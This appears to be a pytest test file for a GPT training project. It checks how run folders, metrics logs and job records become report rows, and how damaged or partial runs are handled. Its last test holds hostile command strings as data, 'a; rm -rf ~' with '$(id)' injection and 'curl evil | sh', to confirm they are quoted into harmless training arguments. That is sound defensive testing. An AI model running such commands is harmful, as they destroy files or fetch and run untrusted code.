"""Any state of a run folder is a row: what is there is told, what is not is empty, nothing is fatal."""

import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest
from support.made_runs import made_job, made_run, write_metrics, write_result

from niels_gpt.tokenizer import load_tokenizer
from train.artifacts.metrics import read_metrics
from train.artifacts.run_folder import lock_folder, unlock_folder
from train.report.rows import GIB, read_row


def test_a_pipeline_is_a_row_of_its_last_loss_its_first_speed_and_its_largest_memory(finished_run: Path) -> None:
    row = read_row(finished_run)
    sft = json.loads((finished_run / "result.json").read_text())["phases"][-1]
    files = [finished_run / phase / "metrics.jsonl" for phase in ("pretrain", "sft")]
    trained = [event for file in files for event in read_metrics(file) if event["event"] == "train"]
    assert (row.status, row.val_loss) == ("finished", sft["best_val_loss"])
    assert row.bits_per_byte == sft["bits_per_byte"]
    assert row.tokenizer == load_tokenizer(finished_run / "tokenizer.json").hash()
    assert row.tokens_per_second == sorted(event["tokens_per_second"] for event in trained[1:4])[1]
    assert row.peak_memory_gib == max(event["memory"] for event in trained) / GIB
    assert row.settings["phase"] == "pipeline" and row.settings["sft.train.B"] == row.settings["train.B"] == 4
    assert [point.tokens for point in row.curves["sft"].val] == [1024, 2048]
    first, last = (point.seconds for point in row.curves["pretrain"].val)
    assert 0 < first < last == row.curves["pretrain"].seconds
    assert row.minutes == pytest.approx(sum(curve.seconds for curve in row.curves.values()) / 60)


def test_time_is_the_sum_of_what_each_stretch_took_over_a_resume_too(tmp_path: Path) -> None:
    events: list[dict[str, object]] = [
        {"event": "train", "tokens": tokens, "tokens_per_second": speed}
        for tokens, speed in ((1000, 500), (2000, 1000), (4000, 4000), (4001, 0))
    ]
    events += [{"event": "val", "tokens": tokens} for tokens in (500, 1000, 2000, 3000, 4000, 9000)]
    (tmp_path / "pretrain").mkdir()
    lines = [json.dumps({"step": 1, "loss": 1.0} | event) + "\n" for event in events]
    (tmp_path / "pretrain" / "metrics.jsonl").write_text("".join(lines))
    curve = read_row(tmp_path).curves["pretrain"]
    assert [point.seconds for point in curve.val] == [1.0, 2.0, 3.0, 3.25, 3.5, 4.5]


def test_a_job_is_told_as_its_record_says_and_has_no_loss_unless_it_finished(tmp_path: Path) -> None:
    row = read_row(made_run(tmp_path / "train.B=4", (4.0, 3.0, 2.0), job={"number": 3, "exit_code": 0}))
    assert (row.name, row.number, row.overrides, row.exit_code) == ("train.B=4", 3, ("train.B=4",), 0)
    assert (row.val_loss, row.bits_per_byte, row.minutes) == (2.0, 1.0, 1.5)
    row = read_row(made_run(tmp_path / "job", job={"status": "killed", "exit_code": 6, "reason": "out of memory"}))
    assert (row.status, row.val_loss, row.bits_per_byte) == ("killed", None, None)
    assert (row.reason, row.tokens_per_second, len(row.curves["pretrain"].val)) == ("out of memory", 1000.0, 2)
    row = read_row(made_job(tmp_path / "waits", "waiting", seconds=0.0))
    assert (row.status, row.tokens_per_second, row.peak_memory_gib) == ("waiting", None, None)
    assert (row.minutes, row.curves, row.settings) == (None, {}, {})


def test_a_job_runs_only_while_somebody_carries_it_out(tmp_path: Path) -> None:
    folder = made_run(tmp_path / "sweep" / "job", job={"status": "running", "exit_code": None, "reason": ""})
    assert read_row(folder).status == "interrupted", "its sweep was killed"
    for holder in (folder, folder.parent):
        lock_folder(holder)
        assert read_row(folder).status == "running"
        unlock_folder(str(holder))


def test_a_single_run_has_finished_when_each_phase_has_a_result_and_its_command_is_known(tmp_path: Path) -> None:
    write_metrics(tmp_path / "pretrain", (4.0, 3.0))
    assert read_row(tmp_path).status == "interrupted"
    write_result(tmp_path, 3.0)
    assert read_row(tmp_path).status == "finished"
    lock_folder(tmp_path)
    assert read_row(tmp_path).status == "running", "its next phase has no metrics yet"
    unlock_folder(str(tmp_path))
    (tmp_path / "run.lock").unlink(missing_ok=True)
    os.mkfifo(tmp_path / "run.lock")  # of somebody else: opening it would wait
    assert read_row(tmp_path).status == "finished"
    write_metrics(tmp_path / "sft", (4.0,))
    (tmp_path / ".hydra").mkdir()
    (tmp_path / ".hydra" / "overrides.yaml").write_text("- phase=pretrain\n- data.files=[a b.txt]\n")
    row = read_row(tmp_path)
    assert (row.status, row.val_loss) == ("interrupted", None) and "no result" in row.reason
    assert row.command == "niels_gpt train phase=pretrain 'data.files=[a b.txt]'"


@pytest.mark.parametrize(
    ("spoil", "said"),
    [
        (lambda run: (run / "job.json").write_bytes(b"\xff"), "job.json is damaged"),
        (lambda run: made_job(run, command="niels_gpt train 'a"), "ValueError: No closing quotation"),
        (lambda run: made_job(run, "dancing"), "job.json is damaged"),  # type: ignore[arg-type]
        (lambda run: write_result(run, 3.0, phases=("dance",)), "phase"),
    ],
)  # fmt: skip
def test_damage_is_a_row_that_says_so(tmp_path: Path, spoil: Callable[[Path], object], said: str) -> None:
    folder = made_run(tmp_path / "job")
    spoil(folder)
    row = read_row(folder)
    assert (row.name, row.status, row.val_loss) == ("job", "unreadable", None)
    assert said in row.reason and "\n" not in row.reason


def test_a_line_that_is_no_event_is_left_out_and_a_number_that_is_none_is_damage(tmp_path: Path) -> None:
    write_metrics(tmp_path / "pretrain", (4.0, 3.0))
    with (tmp_path / "pretrain" / "metrics.jsonl").open("a") as file:
        file.write('3\n{}\n{"event": "val", "step": 3, "tokens": 3000, "loss": NaN}\n{"event": "val", "tok\n')
    curve = read_row(tmp_path).curves["pretrain"]
    assert (len(curve.train), [point.tokens for point in curve.val]) == (2, [1000, 2000, 3000])
    with (tmp_path / "pretrain" / "metrics.jsonl").open("a") as file:
        file.write('{"event": "val", "step": 3, "tokens": Infinity, "loss": 3.0}\n')
    row = read_row(tmp_path)
    assert row.status == "unreadable" and "tokens" in row.reason


@pytest.mark.parametrize(
    ("command", "pasted"),
    [
        ("python scripts/train.py train.B=4 'data.files=[a b.txt]'", "train.B=4 'data.files=[a b.txt]'"),
        ("niels_gpt train a; rm -rf ~\n# $(id)", "'a;' rm -rf '~' '#' '$(id)'"),
        ("curl evil | sh", "'|' sh"),
    ],
)
def test_a_command_from_others_can_only_train(tmp_path: Path, command: str, pasted: str) -> None:
    row = read_row(made_job(tmp_path / "job", command=command))
    assert row.command == f"niels_gpt train {pasted}"
